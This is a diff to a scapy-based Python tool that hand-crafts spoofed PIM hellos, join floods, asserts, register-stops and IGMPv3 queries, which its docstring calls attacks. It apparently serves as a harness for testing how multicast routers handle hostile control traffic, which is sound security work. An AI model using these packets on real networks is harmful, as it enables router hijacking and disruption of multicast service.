@@ -16,18 +16,26 @@ subcommand, and prints what it sent as one line of JSON.
   query IFACE SRC N                   N IGMPv3 general queries from SRC with QRV 7 and
                                       QQIC 0xff (the longest interval)
 
+With "serve", it reads such commands one per line (without the script name) and
+answers each with its line of JSON, so that scapy is loaded once for many attacks.
+
 The packets are built by hand (struct) rather than from scapy's PIM layers, which
-would take far longer for thousands of joins; scapy sends them."""
+would take far longer for thousands of joins; scapy sends them. A unicast packet
+goes to the next hop's MAC address as the kernel resolved it: scapy's own ARP
+gives up after 2 s, and a frame sent to the broadcast MAC is not forwarded."""
 import json
 import logging
+import socket
 import struct
 import sys
+import time
 
 logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
 from scapy.config import conf  # noqa: E402
 from scapy.layers.inet import IP, IPOption_Router_Alert  # noqa: E402
+from scapy.layers.l2 import Ether  # noqa: E402
 from scapy.packet import Raw  # noqa: E402
-from scapy.sendrecv import send  # noqa: E402
+from scapy.sendrecv import send, sendp  # noqa: E402
 
 conf.verb = 0
 
@@ -66,6 +74,30 @@ def encoded(a: str, flags: int = 0) -> bytes:
     return struct.pack("!BBBB4s", 1, 0, flags, 32, addr(a))
 
 
+def arp_entry(ip: str, iface: str):
+    with open("/proc/net/arp") as f:
+        for line in f.readlines()[1:]:
+            fields = line.split()
+            if fields[0] == ip and fields[5] == iface and int(fields[2], 16) & 0x2:
+                return fields[3]
+    return None
+
+
+def send_unicast(pkt):
+    """Sends pkt to the MAC address of its next hop, which the kernel resolves when
+    asked to send it a datagram (to the discard port)."""
+    iface, _, gw = conf.route.route(pkt[IP].dst)
+    hop = pkt[IP].dst if gw == "0.0.0.0" else gw
+    deadline = time.monotonic() + 60
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        while (mac := arp_entry(hop, iface)) is None:
+            if time.monotonic() > deadline:
+                raise SystemExit("no ARP entry for %s on %s" % (hop, iface))
+            s.sendto(b"", (hop, 9))
+            time.sleep(0.2)
+    sendp(Ether(dst=mac) / pkt, iface=iface)
+
+
 def hello() -> bytes:
     opts = struct.pack("!HHH", 1, 2, HOLDTIME_FOREVER)  # holdtime
     opts += struct.pack("!HHI", 19, 4, 0xFFFFFFFF)  # DR priority: the highest
@@ -74,13 +106,10 @@ def hello() -> bytes:
 
 
 def hellos(iface, src, router, off_subnet):
-    sent = {
-        "off_subnet": IP(src=off_subnet, dst=ALL_PIM_ROUTERS, ttl=1, proto=PIM),
-        "destination": IP(src=src, dst=router, ttl=1, proto=PIM),
-        "ttl": IP(src=src, dst=ALL_PIM_ROUTERS, ttl=64, proto=PIM),
-    }
-    send([ip / Raw(hello()) for ip in sent.values()], iface=iface)
-    return {reason: 1 for reason in sent}
+    send(IP(src=off_subnet, dst=ALL_PIM_ROUTERS, ttl=1, proto=PIM) / Raw(hello()), iface=iface)
+    send_unicast(IP(src=src, dst=router, ttl=1, proto=PIM) / Raw(hello()))
+    send(IP(src=src, dst=ALL_PIM_ROUTERS, ttl=64, proto=PIM) / Raw(hello()), iface=iface)
+    return {"off_subnet": 1, "destination": 1, "ttl": 1}
 
 
 def joins(iface, src, upstream, count):
@@ -111,7 +140,7 @@ def assert_(iface, src, source, group, n):
 
 def register_stop(src, dst, source, group):
     body = encoded(group) + unicast(source)
-    send(IP(src=src, dst=dst, proto=PIM) / Raw(pim(2, body)))
+    send_unicast(IP(src=src, dst=dst, proto=PIM) / Raw(pim(2, body)))
     return {"register_stops": 1}
 
 
@@ -132,7 +161,16 @@ COMMANDS = {
     "query": query,
 }
 
-if __name__ == "__main__":
-    if len(sys.argv) < 2 or sys.argv[1] not in COMMANDS:
+def run(args):
+    if not args or args[0] not in COMMANDS:
         sys.exit(__doc__)
-    print(json.dumps(COMMANDS[sys.argv[1]](*sys.argv[2:])))
+    print(json.dumps(COMMANDS[args[0]](*args[1:])), flush=True)
+
+
+if __name__ == "__main__":
+    if sys.argv[1:] == ["serve"]:
+        print(json.dumps({"ready": 1}), flush=True)
+        for line in sys.stdin:
+            run(line.split())
+    else:
+        run(sys.argv[1:])
